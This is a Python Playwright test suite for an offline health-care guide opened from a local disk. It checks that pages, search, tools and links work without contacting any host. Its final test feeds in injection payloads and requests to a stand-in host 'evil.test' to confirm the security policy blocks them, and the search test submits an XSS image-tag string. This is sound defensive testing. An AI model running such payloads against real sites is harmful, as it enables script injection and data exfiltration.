"""The offline guide, opened from a disk: every page, its look, drawings, tools, print, search and short addresses, and no request to any host."""

from __future__ import annotations

import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from guide.hosts.portable import offline
from guide.hosts.zips import FOLDER, write_zip
from guide.project import Guide
from test_search import answered, ask
from tools import TOOLS, on_phone, press

REPORT = "document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => console.error(`refused: ${effectiveDirective} ${blockedURI}`))"
LOCAL = ("file:", "data:", "blob:")
# Each tool's page, as a file: a browser shows a folder on a disk as a list.
FILES = {name: replace(tool, path=f"{tool.path}index.html") for name, tool in TOOLS.items()}
PAPER = ("rgb(251, 248, 243)", "rgb(255, 255, 255)")


@pytest.fixture(scope="module")
def unpacked(guide: Guide, site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The offline guide, unpacked where a reader may have it: a folder with a space, a letter beyond English, and signs of addresses."""
    folder = tmp_path_factory.mktemp("disk") / "My guide, café #1 50%"
    write_zip(folder / "guide.zip", offline(guide, site))
    with zipfile.ZipFile(folder / "guide.zip") as packed:
        packed.extractall(folder)
    return folder / FOLDER


@pytest.fixture(scope="module")
def disk(unpacked: Path) -> str:
    """The address of its folder."""
    return f"{unpacked.as_uri()}/"


@dataclass
class Reader:
    """One reader's browser, all that it complains of, and all that it asks for."""

    context: BrowserContext
    complaints: list[str] = field(default_factory=list)
    asked: list[str] = field(default_factory=list)

    def heard(self, page: Page) -> list[str]:
        """Complaints, and requests to a host, once the page has done all that it had begun."""
        page.evaluate("() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done)))")
        return [*self.complaints, *(address for address in self.asked if not address.startswith(LOCAL))]


@pytest.fixture
def reader(browser: Browser) -> Iterator[Reader]:
    context = on_phone(browser, bypass_csp=False)
    context.add_init_script(REPORT)
    one = Reader(context)
    context.on("console", lambda message: one.complaints.append(message.text) if message.type in ("error", "warning") else None)
    context.on("weberror", lambda error: one.complaints.append(str(error.error)))
    context.on("request", lambda request: one.asked.append(request.url))
    yield one
    context.close()


@pytest.fixture
def tab(reader: Reader) -> Page:
    return reader.context.new_page()


def test_every_page_opens_with_its_look_and_drawings_and_asks_no_host(unpacked: Path, tab: Page, reader: Reader) -> None:
    pages = [file for file in sorted(unpacked.rglob("*.html")) if "<article" in file.read_text(encoding="utf-8")]
    assert len(pages) > 50
    for file in pages:
        tab.goto(file.as_uri())
        assert tab.evaluate("getComputedStyle(document.documentElement).backgroundColor") in PAPER, file
        assert tab.evaluate("[...document.images].every((image) => image.complete && image.naturalWidth > 0)"), file
        assert not reader.heard(tab), file
    assert len(reader.asked) > 3 * len(pages), "else requests were not seen"


def test_the_search_answers_leads_on_and_comes_back(disk: str, tab: Page, reader: Reader) -> None:
    tab.goto(f"{disk}index.html")
    for question in ("fever", "qzxv", '<img src=x onerror="window.mgRan = 1">', "craters"):
        panel = ask(tab, question)
    panel.locator(".mg-search__link").first.click()
    tab.wait_for_url("**/understand/acne-scars/index.html#acne-scars")
    tab.go_back()
    answered(tab, "craters")
    assert not reader.heard(tab)


def test_each_result_of_the_search_is_a_file(disk: str, unpacked: Path, tab: Page) -> None:
    tab.goto(f"{disk}aftercare/sun/index.html")
    for question in ("sun", "pain", "how much does it cost", "fever"):
        for link in ask(tab, question).locator(".mg-search__link").all():
            way = link.evaluate("(link) => decodeURIComponent(link.pathname)")
            assert Path(way).is_file() and way.startswith(str(unpacked)), way


def test_a_link_with_a_question_opens_its_answer(disk: str, tab: Page, reader: Reader) -> None:
    tab.goto(f"{disk}about/words/index.html?q=fever")
    expect(answered(tab, "fever").locator(".mg-search__worry").filter(visible=True).first).to_be_visible()
    ask(tab, "craters")
    tab.locator(".mg-search__form").evaluate("(form) => HTMLFormElement.prototype.submit.call(form)")
    tab.wait_for_url("**/index.html?q=craters")
    answered(tab, "craters")
    assert not reader.heard(tab)


@pytest.mark.parametrize("name", FILES)
def test_a_tool_works_in_each_of_its_states_keeps_and_forgets(name: str, disk: str, tab: Page, reader: Reader) -> None:
    tool = FILES[name]
    tool.brought(tab, disk, list(tool.states)[-1])
    if tool.keeps:
        tab.reload()
        tool.wait(tab)
        assert tab.evaluate("Object.keys(localStorage)") == [f"mg-{name}"]
        press(tab, "Forget")
        assert tab.evaluate("Object.keys(localStorage)") == []
    assert tab.pdf(format="A4").startswith(b"%PDF")
    assert not reader.heard(tab)


def test_a_plan_is_saved_for_the_calendar(disk: str, tab: Page, reader: Reader) -> None:
    FILES["plan"].brought(tab, disk, "result")
    with tab.expect_download() as saved:
        tab.locator("[data-mg-plan=save]").click()
    assert Path(saved.value.path()).read_bytes().startswith(b"BEGIN:VCALENDAR")
    assert not reader.heard(tab)


def test_a_short_address_and_its_list_lead_on(disk: str, tab: Page, reader: Reader) -> None:
    tab.goto(f"{disk}go/sun/index.html", wait_until="commit")
    tab.wait_for_url("**/aftercare/sun/index.html#sun")
    tab.goto(f"{disk}go/index.html")
    tab.locator("main a").first.click()
    tab.wait_for_url(lambda address: "/go/" not in address and "index.html" in address)
    assert not reader.heard(tab)


def test_links_lead_from_page_to_page_and_home(disk: str, tab: Page, reader: Reader) -> None:
    tab.goto(f"{disk}aftercare/sun/index.html")
    tab.locator(".mg-next__link--next").click()
    expect(tab.locator("h1")).to_be_visible()
    tab.locator(".mg-header__brand").click()
    tab.wait_for_url(f"{disk}index.html")
    assert not reader.heard(tab)


def test_a_word_is_explained_and_the_menu_opens(disk: str, tab: Page, reader: Reader) -> None:
    tab.goto(f"{disk}understand/how-it-works/index.html")
    tab.locator("button[popovertarget]").first.click()
    expect(tab.locator("[popover]:popover-open").first).to_be_visible()
    tab.keyboard.press("Escape")
    tab.locator("header summary").first.click()
    expect(tab.locator("header details[open] a").first).to_be_visible()
    assert not reader.heard(tab)


def test_without_scripts_it_is_whole(disk: str, browser: Browser) -> None:
    context = on_phone(browser, java_script_enabled=False, bypass_csp=False)
    page = context.new_page()
    page.goto(f"{disk}aftercare/sun/index.html")
    page.locator(".mg-header__all-pages").click()
    page.wait_for_url("**/about/questions/index.html")
    expect(page.locator("h1")).to_be_visible()
    context.close()


@pytest.mark.parametrize(
    "tried",
    [
        "fetch('https://evil.test/')",
        "new Promise((good, bad) => { const it = new Image(); it.onload = good; it.onerror = bad; it.src = 'https://evil.test/a.png' })",
        "new Promise((good, bad) => { const it = document.createElement('link'); it.rel = 'stylesheet'; it.onload = good; it.onerror = bad; it.href = 'https://evil.test/a.css'; document.head.append(it) })",
        "new Promise((good) => good(document.body.innerHTML = '<p>markup</p>'))",
        "new Promise((good) => good(Object.assign(document.createElement('script'), { text: 'window.mgRan = 1' })))",
        "new Promise((good) => good(new Worker('https://evil.test/a.js')))",
    ],
)
def test_its_policy_still_lets_nothing_ask_a_host_or_run_a_text(tried: str, disk: str, tab: Page, reader: Reader) -> None:
    sent: list[str] = []  # what really leaves: a browser tells of a request that its policy then refuses too
    reader.context.route(lambda address: not address.startswith(LOCAL), lambda route: (sent.append(route.request.url), route.abort()))
    tab.goto(f"{disk}index.html")
    assert tab.evaluate(f"(async () => {{ try {{ await ({tried}); return 'done'; }} catch {{ return 'refused'; }} }})()") == "refused"
    reader.heard(tab)
    assert any("refused: " in said or "This document requires 'Trusted" in said for said in reader.complaints), reader.complaints
    assert not sent, "a host was asked"
